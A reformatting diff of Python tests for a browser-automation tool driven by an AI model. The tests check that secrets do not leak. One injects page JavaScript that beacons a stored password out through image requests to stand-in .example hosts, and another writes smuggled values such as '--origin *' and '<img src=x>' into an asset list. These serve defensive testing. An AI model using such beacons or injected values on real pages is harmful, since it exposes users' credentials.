@@ -1,4 +1,5 @@
-"""A director against pages that give secrets away and models that call its tools in any way they like."""
+"""A director against pages that give secrets away and models that call its tools in any way they
+like."""
 
 from __future__ import annotations
 
@@ -56,12 +57,20 @@ def test_a_page_that_repeats_what_was_typed_tells_the_model_nothing(
             in_the_page(browser, GIVES_AWAY)
             look = {"inspection": "lightweight_exploration", "instruction": "who am I"}
             wrong = {"action": "click", "selector": "#no", "reason": "look"}
-            looks = [ToolCall("inspect_tab", {"inspection": "dom_snapshot"}), ToolCall("inspect_tab", look)]
+            looks = [
+                ToolCall("inspect_tab", {"inspection": "dom_snapshot"}),
+                ToolCall("inspect_tab", look),
+            ]
             return Reply(tool_calls=[*looks, ToolCall("debug_action", wrong)])
         begin = {"url": f"{desk.url}/login", "reason": "begin"}
-        return calls(debug_navigate=begin, debug_action=typed) if not done else f"You are {PASSWORD}."
+        return (
+            calls(debug_navigate=begin, debug_action=typed) if not done else f"You are {PASSWORD}."
+        )
 
-    with fake_provider(script) as provider, opened(tmp_path, provider.openai, browser=browser) as director:
+    with (
+        fake_provider(script) as provider,
+        opened(tmp_path, provider.openai, browser=browser) as director,
+    ):
         for variable, given in kept.items():
             director.session.set_variable(variable, given, "to sign in")
         turn = director.say("Log in", on_event=events.append)
@@ -89,7 +98,9 @@ def test_a_tab_without_a_name_is_asked_for(tmp_path: Path, browser: Browser) -> 
 
 
 def test_wherever_it_is_stopped_every_call_has_its_result(tmp_path: Path) -> None:
-    wanted = [ToolCall("set_variable", {"name": f"v{n}", "value": n, "reason": "x"}) for n in range(3)]
+    wanted = [
+        ToolCall("set_variable", {"name": f"v{n}", "value": n, "reason": "x"}) for n in range(3)
+    ]
     reply = Reply("I look around.", tool_calls=wanted)
     with fake_provider(reply) as provider, opened(tmp_path, provider.openai) as director:
         for moment in range(1, 12):
@@ -111,20 +122,33 @@ def _stopped_at(director: Director, moment: int) -> None:
     assert director.say("Go", on_event=stop, cancel=cancel).stopped
 
 
-def test_what_a_page_could_not_load_is_told_to_the_model_and_offered_by_name_the_next_time(tmp_path: Path) -> None:
+def test_what_a_page_could_not_load_is_told_to_the_model_and_offered_by_name_the_next_time(
+    tmp_path: Path,
+) -> None:
     with home() as served, elsewhere() as away:
         served.away = cdn = away.origin("127.0.0.2")
         rules = Rules((served.url,), page_seconds=6)
 
         def looked(director: Director) -> str:
-            told = director.call("debug_navigate", {"url": f"{served.url}/channel/script", "reason": "look"}).text
-            return told + director.call("debug_action", {"action": "wait", "selector": "h1", "reason": "look"}).text
+            told = director.call(
+                "debug_navigate", {"url": f"{served.url}/channel/script", "reason": "look"}
+            ).text
+            return (
+                told
+                + director.call(
+                    "debug_action", {"action": "wait", "selector": "h1", "reason": "look"}
+                ).text
+            )
 
-        with opened(tmp_path, browser=lambda restore: Browser.start(rules, folder=tmp_path / "p")) as director:
+        with opened(
+            tmp_path, browser=lambda restore: Browser.start(rules, folder=tmp_path / "p")
+        ) as director:
             assert assets.offered(director.session, rules) == []
             told = looked(director)
         allowing = Rules(rules.origins, assets=(cdn,))
-        with opened(tmp_path, browser=lambda restore: Browser.start(allowing, folder=tmp_path / "p")) as director:
+        with opened(
+            tmp_path, browser=lambda restore: Browser.start(allowing, folder=tmp_path / "p")
+        ) as director:
             (offered,) = assets.offered(director.session, rules)
             assert assets.offered(director.session, allowing) == []
             assert "blocked" not in looked(director)
@@ -134,7 +158,9 @@ def test_what_a_page_could_not_load_is_told_to_the_model_and_offered_by_name_the
     assert "script" in away.reached
 
 
-def test_a_page_does_not_grow_the_list_of_what_is_offered_without_end_nor_put_a_secret_in_it(tmp_path: Path) -> None:
+def test_a_page_does_not_grow_the_list_of_what_is_offered_without_end_nor_put_a_secret_in_it(
+    tmp_path: Path,
+) -> None:
     ask = """(names) => Promise.all(names.map(name => new Promise(done => { const image = new Image();
       image.onerror = done; image.src = `http://${name}.example/x` }))).then(() => 1)"""
     names = json.dumps([PASSWORD, *(f"cdn{n}" for n in range(50))])
@@ -146,18 +172,31 @@ def test_a_page_does_not_grow_the_list_of_what_is_offered_without_end_nor_put_a_
         director.session.set_variable("creds.password", PASSWORD, "to sign in")
         director.call("debug_navigate", {"url": served.url, "reason": "look"})
         in_the_page(browser, f"() => ({ask})({names})")
-        told = director.call("debug_action", {"action": "wait", "selector": "h1", "reason": "look"}).text
+        told = director.call(
+            "debug_action", {"action": "wait", "selector": "h1", "reason": "look"}
+        ).text
         kept = assets.kept(director.session)
 
     assert len(kept) == assets.MOST_KEPT
     assert PASSWORD not in told + str(kept)
 
 
-def test_what_a_stranger_wrote_into_the_list_is_offered_only_where_it_is_an_origin(tmp_path: Path) -> None:
+def test_what_a_stranger_wrote_into_the_list_is_offered_only_where_it_is_an_origin(
+    tmp_path: Path,
+) -> None:
     with opened(tmp_path) as director:
         place = assets._place(director.session)
-        titles = ["https://cdn.example", "https://a.example --origin *", "<img src=x>", "*", "https://x.example/path"]
-        items = {("blocked asset", title): {"kind": "k", "title": title, "text": "script <b>"} for title in titles}
+        titles = [
+            "https://cdn.example",
+            "https://a.example --origin *",
+            "<img src=x>",
+            "*",
+            "https://x.example/path",
+        ]
+        items = {
+            ("blocked asset", title): {"kind": "k", "title": title, "text": "script <b>"}
+            for title in titles
+        }
         Store(director.session.db).carry(place, items, [])
         assert [(one.origin, one.kinds) for one in assets.kept(director.session)] == [
             ("https://cdn.example", ("script",))
